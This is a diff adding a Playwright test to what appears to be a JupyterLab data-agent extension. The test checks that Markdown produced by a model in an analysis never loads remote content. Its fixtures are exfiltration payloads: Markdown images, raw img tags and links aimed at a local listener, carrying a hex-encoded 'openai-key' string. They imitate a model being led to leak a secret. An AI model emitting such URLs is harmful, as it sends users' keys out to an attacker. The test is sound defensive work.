@@ -483,3 +483,68 @@ test('a real analysis: the server plans and runs two steps in copies (scripted m
   expect(cells[2].execution_count).toBeLessThan(cells[4].execution_count);
   expect(await kernelRepr(page, 'float(mean_delay)')).toBe('34.0');
 });
+
+test('model Markdown in an analysis loads nothing: on arrival, after Accept, on reopen (issue 34)', async ({
+  page
+}) => {
+  // A listener's address, as an exfiltrating explanation would name it: any
+  // request to it from the page (a fetched image) is the finding.
+  const LISTENER = '127.0.0.1:8799';
+  const HEX = '6f70656e61692d6b6579';
+  const urls: string[] = [];
+  page.on('request', request => urls.push(request.url()));
+  const leaked = () => urls.filter(u => u.includes(LISTENER));
+  const server = new MockServer();
+  await server.install(page, ANALYSIS_CONFIG);
+  await notebookWithDf(page, 'analysis-inert.ipynb');
+  await askForAnalysis(page, server, 'Read the key and explain');
+  const titles = [
+    `Read it ![t](http://${LISTENER}/plan?d=${HEX})`,
+    `Explain <img src="http://${LISTENER}/raw?d=${HEX}">`
+  ];
+  await server.send('job1', [
+    event('job1', 1, 'progress', 'step 1 of 2: running in a kernel copy', {
+      state: 'step',
+      turn: 1,
+      plan: plan(titles, ['running', 'pending'])
+    })
+  ]);
+  const candidate = analysisCandidate([
+    { title: titles[0], code: 'k = 1\nk', out: '1' },
+    { title: titles[1], code: 'k + 1', out: '2' }
+  ]) as any;
+  candidate.analysis[1].explanation =
+    `![e](http://${LISTENER}/explanation?d=${HEX}) ` +
+    `<img src=http://${LISTENER}/explanation-raw?d=${HEX}> ` +
+    `[docs](http://${LISTENER}/link?d=${HEX})`;
+  await server.send(
+    'job1',
+    finishEvents('job1', 2, [candidate], {
+      turnId: 'turn-inert',
+      result: { strategy: 'analysis' as any }
+    })
+  );
+  const pending = page.locator('.jp-Notebook .jp-Cell.jp-DataAgent-suggestion');
+  await expect(pending).toHaveCount(4);
+  let cells = await notebookCells(page);
+  // The words are there, as text.
+  expect(cells[3].source).toContain('docs');
+  expect(cells[3].source).toContain(LISTENER);
+  // Tools without this extension (nbconvert, papermill) skip the pending code.
+  expect(cells[2].metadata.tags).toEqual(['skip-execution']);
+  await page.waitForTimeout(1500); // an image load would have started by now
+  expect(leaked()).toEqual([]);
+
+  await page.locator('.jp-DataAgent-analysisBar .jp-DataAgent-accept').click();
+  await expect(pending).toHaveCount(0);
+  cells = await notebookCells(page);
+  expect(cells[2].metadata.tags).toBeUndefined();
+  await page.waitForTimeout(1000);
+  expect(leaked()).toEqual([]);
+
+  await page.notebook.save();
+  await reloadAndReopen(page, 'analysis-inert.ipynb');
+  await expect(page.locator('.jp-Notebook .jp-MarkdownCell')).toHaveCount(2);
+  await page.waitForTimeout(1500);
+  expect(leaked()).toEqual([]);
+});
